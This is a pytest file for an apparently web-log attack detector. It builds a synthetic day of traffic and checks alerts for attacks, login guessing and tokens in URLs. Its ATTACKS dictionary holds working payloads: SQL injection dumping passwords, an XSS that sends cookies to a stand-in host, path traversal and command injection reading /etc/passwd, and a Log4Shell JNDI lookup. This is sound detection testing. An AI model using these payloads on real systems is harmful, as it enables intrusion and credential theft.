"""A day of ordinary traffic raises nothing above Low, and attackers in it are all seen, with everything they tried."""
import json
import random
import subprocess
from datetime import datetime, timedelta, timezone

import pytest

from weir_process import REPOSITORY, binary, environment

START = datetime(2026, 3, 2, tzinfo=timezone.utc)
DAY = 86_400
BROWSERS = [f'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{120 + i}.0.0.0 Safari/537.36'
            for i in range(12)]
MONITORS = ['curl/8.5.0', 'kube-probe/1.29', 'Prometheus/2.51.0', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)']
CRAWLERS = ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
            'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)']
WORDS = ['kettle', 'lamp', 'desk', 'notebook', 'scarf', 'teapot', 'garden', 'bicycle', 'mirror', 'rope']
HOSTS = ['shop.example.com', 'api.example.com', 'intra.example.com']
ATTACKS = {
    'sqli': "1' UNION ALL SELECT username, password FROM users -- ",
    'xss': '<script>fetch("//collect.example/?c="+document.cookie)</script>',
    'traversal': '../../../../../../etc/passwd',
    'cmdi': '; cat /etc/passwd',
    'rce': '${jndi:ldap://collect.example:1389/a}',
}


class Day:
    """Records with their times, of one seed."""

    def __init__(self, seed):
        self.chance = random.Random(seed)
        self.records = []

    def add(self, second, ip, path, agent, **fields):
        record = {'ts': '', 'ip': ip, 'method': 'GET', 'scheme': 'https', 'host': HOSTS[0], 'path': path, 'status': 200,
                  'response_bytes': 900 + self.chance.randrange(9_000), 'duration_ms': 3 + self.chance.randrange(60),
                  'user_agent': agent, **fields}
        self.records.append((second, record))

    def page(self, second, ip, agent, **fields):
        kind = self.chance.randrange(5)
        if kind == 0:
            self.add(second, ip, '/search', agent, query=f'q={self.chance.choice(WORDS)}+{self.chance.choice(WORDS)}', **fields)
        elif kind == 1:
            self.add(second, ip, '/missing-image.png', agent, **{**fields, 'status': 404})
        else:
            self.add(second, ip, f'/products/{self.chance.randrange(90_000)}', agent, referer='https://shop.example.com/', **fields)

    def people(self, count):
        for number in range(count):
            ip, agent = f'10.{20 + number // 250}.{number % 250}.7', self.chance.choice(BROWSERS)
            for _ in range(self.chance.randrange(1, 3)):
                second = self.chance.uniform(0, DAY - 900)
                for _ in range(self.chance.randrange(5, 20)):
                    second += self.chance.uniform(2, 60)
                    self.page(second, ip, agent)

    def machines(self):
        for number in range(40):                     # monitors, to the second
            for beat in range(0, DAY, 60):
                self.add(beat + number, f'10.1.0.{number}', '/health', MONITORS[number % len(MONITORS)], response_bytes=2)
        for number in range(20):                     # crawlers
            second = self.chance.uniform(0, 60)
            while second < DAY:
                self.add(second, f'10.2.0.{number}', f'/blog/{self.chance.choice(WORDS)}-{self.chance.randrange(5_000)}',
                         CRAWLERS[number % 2], status=404 if self.chance.random() < 0.05 else 200)
                second += self.chance.uniform(20, 60)
        for number in range(60):                     # webhooks
            second = self.chance.uniform(0, 600)
            while second < DAY:
                self.add(second, f'10.3.0.{number}', '/hooks/payment', 'Stripe/1.0 (+https://stripe.com/docs/webhooks)', method='POST',
                         content_type='application/json', body='{"id": "evt_1", "type": "charge.succeeded", "amount": 1200}')
                second += self.chance.expovariate(1 / 600)

    def programs(self):
        for number in range(120):                    # API clients, each at two addresses
            second = self.chance.uniform(0, 300)
            while second < DAY:
                self.add(second, f'10.4.{number}.{self.chance.randrange(2)}', '/v1/orders', 'python-requests/2.31.0', host=HOSTS[1],
                         client_id=f'partner-{number}', query=f'since={int(second)}&limit=50',
                         status=401 if self.chance.random() < 0.01 else 200)
                second += self.chance.uniform(200, 400)
        for number in range(260):                    # apps, between home and mobile network
            for _ in range(3):
                second = self.chance.uniform(0, DAY - 900)
                for _ in range(12):
                    second += self.chance.uniform(1, 40)
                    self.add(second, f'10.5.{number // 250}.{self.chance.randrange(2) + number % 120 * 2}', f'/v1/feed/{self.chance.randrange(999)}',
                             'ShopApp/5.2 (iPhone; iOS 17.4)', host=HOSTS[1], client_id=f'user-{number}')

    def office(self):
        """150 people behind one address, far above the rate of one."""
        for _ in range(8 * 60 * 150):
            second = 9 * 3600 + self.chance.uniform(0, 8 * 3600)
            self.page(second, '192.0.2.200', self.chance.choice(BROWSERS))

    def attackers(self):
        """20, each with three kinds of attack on one to three hosts. {address: {(category, host)}}"""
        tried = {}
        for number in range(20):
            ip, second = f'203.0.113.{number + 1}', self.chance.uniform(0, DAY - 600)
            for category in self.chance.sample(sorted(ATTACKS), 3):
                for host in self.chance.sample(HOSTS, 1 + number % 3):
                    second += self.chance.uniform(0.2, 3)
                    self.add(second, ip, '/item', BROWSERS[0], host=host, query='id=' + quoted(ATTACKS[category]),
                             status=self.chance.choice((200, 403, 404)))
                    tried.setdefault(ip, set()).add((category, host))
        return tried

    def lines(self):
        for second, record in sorted(self.records, key=lambda one: one[0]):
            when = START + timedelta(seconds=second)
            record['ts'] = when.isoformat(timespec='milliseconds').replace('+00:00', 'Z')
            yield json.dumps(record).encode()


def quoted(text):
    return ''.join(character if character.isalnum() else ''.join(f'%{byte:02X}' for byte in character.encode()) for character in text)


def alerts_of(lines, folder):
    path = folder / 'day.ndjson'
    path.write_bytes(b'\n'.join(lines) + b'\n')
    done = subprocess.run([binary(), 'scan', '--rules', REPOSITORY / 'rules', '--output', 'alerts', '--close-episodes', path], capture_output=True, check=True,
                          env=environment())
    return [json.loads(line) for line in done.stdout.splitlines()]


def ordinary_day(seed):
    day = Day(seed)
    day.people(1_500)
    day.machines()
    day.programs()
    day.office()
    return day


@pytest.fixture(scope='module')
def day_with_attackers(tmp_path_factory):
    day = ordinary_day(1)
    ordinary = alerts_of(day.lines(), tmp_path_factory.mktemp('ordinary'))
    tried = day.attackers()
    return ordinary, tried, alerts_of(day.lines(), tmp_path_factory.mktemp('attacked'))


def test_ordinary_traffic_raises_nothing_above_low_and_ten_alerts_at_most(day_with_attackers):
    ordinary, _, _ = day_with_attackers
    assert [one['message'] for one in ordinary if one['severity_id'] > 2] == []
    assert len(ordinary) <= 10, [one['message'] for one in ordinary]


def test_of_each_attacker_every_category_and_host_is_in_some_alert(day_with_attackers):
    ordinary, tried, attacked = day_with_attackers
    seen = {}
    for alert in attacked:
        if alert['unmapped']['weir']['kind'] != 'attack':
            continue
        for evidence in alert['evidences']:
            for hit in evidence.get('data', {}).get('hits', ()):
                host = evidence['http_request']['url']['hostname']
                seen.setdefault(alert['unmapped']['weir']['client'], set()).update(
                    {('category', hit['category']), ('host', host)})
    for address, pairs in tried.items():
        wanted = {('category', category) for category, _ in pairs} | {('host', host) for _, host in pairs}
        assert wanted <= seen[address], (address, wanted - seen[address])
    of_others = [one for one in attacked if one['unmapped']['weir']['client'] not in tried]
    assert len(of_others) == len(ordinary)
    closed = {one['unmapped']['weir']['client']: one['count'] for one in attacked
              if one['unmapped']['weir']['kind'] == 'attack' and one['unmapped']['weir']['phase'] == 'closed'}
    assert closed == {address: len(pairs) for address, pairs in tried.items()}


def test_an_attacker_s_second_and_third_step_show_with_their_evidence(tmp_path):
    day = Day(2)
    for second, category in enumerate(('sqli', 'rce', 'cmdi')):
        day.add(second, '203.0.113.9', '/search', BROWSERS[0], query='q=' + quoted(ATTACKS[category]))
    alerts = alerts_of(day.lines(), tmp_path)
    shown = [(one['unmapped']['weir']['phase'], one['evidences'][0]['data']['hits'][0]['category']) for one in alerts[:-1]]
    assert shown == [('opened', 'sqli'), ('updated', 'rce'), ('updated', 'cmdi')]
    assert 'Log4Shell' in alerts[1]['finding_info']['title']
    assert alerts[1]['severity'] == 'Critical'
    assert alerts[0]['message'].startswith('SQL injection in parameter q of GET shop.example.com/search, answered 200; 1 request of 203.0.113.9')
    assert [one['count'] for one in alerts] == [1, 2, 3, 3]
    assert alerts[-1]['unmapped']['weir']['phase'] == 'closed'
    assert alerts[0]['evidences'][0]['http_response']['code'] == 200
    assert alerts[0]['evidences'][0]['http_request']['url']['query_string'].startswith('q=1%27')


@pytest.mark.parametrize('name, agent', [('curl', 'curl/8.5.0'), ('kube-probe', 'kube-probe/1.29'), ('prometheus', 'Prometheus/2.51.0'),
                                         ('googlebot', CRAWLERS[0])])
def test_a_monitor_and_its_missing_image_are_no_scanner(tmp_path, name, agent):
    day = Day(3)
    for number in range(60):
        day.add(number, '10.1.0.1', '/health' if number % 2 else '/missing-image.png', agent, status=200 if number % 2 else 404)
    assert alerts_of(day.lines(), tmp_path) == []


def test_half_an_hour_of_guessing_is_one_incident_for_each_reason(tmp_path):
    day = Day(4)
    for number in range(900):
        day.add(number * 2, '203.0.113.77', '/login', BROWSERS[0], method='POST', status=401, client_id='alice')
    alerts = alerts_of(day.lines(), tmp_path)
    by_client = {}
    for one in alerts:
        by_client.setdefault((one['unmapped']['weir']['client'], tuple(one['unmapped'].get('reasons', ()))), []).append(
            (one['unmapped']['weir']['phase'], one['count']))
    assert by_client[('alice', ('failed_authentication',))] == [('opened', 10), ('updated', 100), ('closed', 900)]
    assert by_client[('203.0.113.77', ('failed_authentication',))] == [('opened', 10), ('updated', 100), ('closed', 900)]
    of_alice = [one for one in alerts if one['unmapped']['weir']['client'] == 'alice' and one['unmapped']['weir']['kind'] == 'burst']
    assert all(one['unmapped']['weir']['role'] == 'target' and 'actor' not in one['evidences'][0] for one in of_alice)
    assert sum(one['unmapped']['weir']['kind'] == 'burst' for one in alerts) == 6, by_client


def test_keys_in_urls_are_told_once_of_each_route_however_many_clients_send_them(tmp_path):
    """Who answers for the route mends it for all its clients; an alert for each of them would be an alert a minute."""
    day = Day(5)
    sent = {'/feed': 0, '/orders': 0}
    for client in range(400):
        for path in sorted(sent):
            for _ in range(1 + client % 2):
                day.add(day.chance.uniform(0, DAY / 2), f'10.6.{client // 200}.{client % 200}', path, 'ShopApp/5.2', host=HOSTS[1],
                        client_id=f'user-{client}', query=f'page=1&access_token={day.chance.randbytes(12).hex()}')
                sent[path] += 1
    alerts = alerts_of(day.lines(), tmp_path)
    opened = sorted(one['unmapped']['weir']['client'] for one in alerts if one['unmapped']['weir']['phase'] == 'opened')
    assert opened == sorted(sent)
    assert {one['unmapped']['weir']['client']: one['count'] for one in alerts
            if one['unmapped']['weir']['phase'] == 'closed'} == sent
    assert {one['finding_info']['title'] for one in alerts} == {'Credentials exposed in URLs'}
    assert len(alerts) <= 20, [one['message'] for one in alerts]
